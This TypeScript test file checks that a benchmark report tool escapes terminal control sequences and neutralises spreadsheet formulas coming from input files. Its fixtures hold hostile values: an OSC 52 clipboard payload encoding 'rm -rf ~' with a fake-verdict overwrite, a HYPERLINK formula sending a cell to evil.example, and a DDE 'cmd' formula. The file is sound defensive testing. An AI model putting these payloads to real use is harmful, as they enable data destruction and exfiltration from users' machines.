// Strings from input files on their way to a console or a spreadsheet: no terminal escape gets
// through, no formula is evaluated, and `aggregate` holds one file's text at a time.
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { listResultsFiles, readResultsFiles } from '../../src/cli/aggregate.js';
import { summaryLines } from '../../src/mlperf/summary-text.js';
import { mergeRun } from '../../src/mlperf/merge.js';
import { aggregateBytes, aggregateTable } from '../../src/report/aggregate.js';
import { formatCompareTable } from '../../src/report/html/compare-table.js';
import { parseRunText, ReportInputError } from '../../src/report/html/run-input.js';
import { buildResultsJson } from '../../src/report/results-json.js';
import { loaded, fixtureDoc } from '../report/html/docs.js';
import { runResultFixture } from '../report/fixtures.js';
import { withTempDir } from '../util/temp-dir.js';

/** OSC 52 (set the clipboard), erase the line and print a fake verdict over it, a bidi override. */
const HOSTILE = 'direct\u001b]52;c;cm0gLXJmIH4=\u0007\u001b[2K\rfake VALID\u202e';
// eslint-disable-next-line no-control-regex -- looking for control characters is the test
const ESC_OR_CR = /[\u001b\u0007\r\u202e]/;

test('compare: a storage_io_mode and a reason code with terminal escapes reach the console inert', () => {
  const a = fixtureDoc();
  const b = fixtureDoc();
  b.kvcache_bench.storage_io_mode = HOSTILE;
  b.kvcache_bench.validity = { valid: false, reasons: [{ code: `x${HOSTILE}`, message: HOSTILE }], warnings: [] };
  const out = formatCompareTable([loaded(a, 'a.json'), loaded(b, 'b\u001b[31m.json')]);
  assert.equal(ESC_OR_CR.test(out), false);
  assert.ok(out.includes('direct\\e]52;c;cm0gLXJmIH4=\\x07\\e[2K\\rfake VALID\\u202e'));
});

test('merge: missing-file lines naming hostile file names are printed inert', () => {
  const summary = mergeRun(
    [
      {
        option: '1',
        trial: 1,
        dir: '/r',
        files: [],
        missing: [`/r/rank_0/kvcache_results_\u001b]52;c;aWQ=\u0007.json: not a readable results file (not JSON)`],
      },
    ],
    { runDatetime: 't', npernode: 1, hostCount: 1, totalRanks: 1, trialsPerOption: 1, division: null, systemName: null },
  );
  const lines = summaryLines(summary, '/r/summary\n.json');
  assert.equal(
    lines.some((l) => ESC_OR_CR.test(l) || l.includes('\n')),
    false,
  );
  assert.ok(lines.includes('  missing: /r/rank_0/kvcache_results_\\e]52;c;aWQ=\\x07.json: not a readable results file (not JSON)'));
  assert.equal(lines.at(-1), 'Summary saved to /r/summary\\n.json');
});

test('report: an error quoting a field of the file is one inert line', () => {
  const doc = fixtureDoc() as unknown as { kvcache_bench: { schema_version: string } };
  doc.kvcache_bench.schema_version = `9\u001b]52;c;aWQ=\u0007`;
  assert.throws(
    () => parseRunText(JSON.stringify(doc), 'x.json'),
    (e: unknown) => {
      assert.ok(e instanceof ReportInputError);
      assert.equal(e.message, "x.json: schema_version '9\\e]52;c;aWQ=\\x07' is not a version (expected MAJOR.MINOR.PATCH)");
      return true;
    },
  );
});

test('aggregate -o x.csv: formula-leading text cells are neutralised; numbers and plain text are not', async () => {
  const doc = buildResultsJson(runResultFixture()) as ReturnType<typeof buildResultsJson> & Record<string, unknown>;
  doc.kvcache_bench.storage_io_mode = '=HYPERLINK("http://evil.example/?"&A1,"click")';
  doc.kvcache_bench.storage_file_system = "=cmd|' /C calc'!A0";
  const table = aggregateTable([{ path: '@SUM(1+1)*cmd.json', text: JSON.stringify(doc) }]);
  const csv = new TextDecoder().decode(await aggregateBytes(table, 'csv'));
  const row = csv.split('\n')[1] ?? '';
  assert.ok(row.startsWith(`'@SUM(1+1)*cmd.json,`), row.slice(0, 40));
  assert.ok(csv.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`));
  assert.ok(csv.includes(`'=cmd|' /C calc'!A0`));
  assert.equal(/(^|,)"?[=+@]/m.test(csv.split('\n').slice(1).join('\n')), false);
  // The same table as XLSX keeps the text as it is (exceljs writes it as a string cell, never a formula).
  assert.ok((await aggregateBytes(table, 'xlsx')).length > 0);
});

test('aggregate reads each file only when it reaches it (one file in memory at a time)', () =>
  withTempDir(async (dir) => {
    const text = JSON.stringify(buildResultsJson(runResultFixture()));
    writeFileSync(join(dir, 'a.json'), text);
    writeFileSync(join(dir, 'b.json'), 'not yet');
    const files = readResultsFiles(listResultsFiles([dir]))[Symbol.iterator]();
    const first = files.next();
    assert.equal(first.done, false);
    // b.json is rewritten after a.json was taken: a reader that read everything first would see 'not yet'.
    writeFileSync(join(dir, 'b.json'), text);
    const second = files.next();
    assert.ok(!second.done && 'text' in second.value);
    assert.equal(second.value.text, text);
  }));
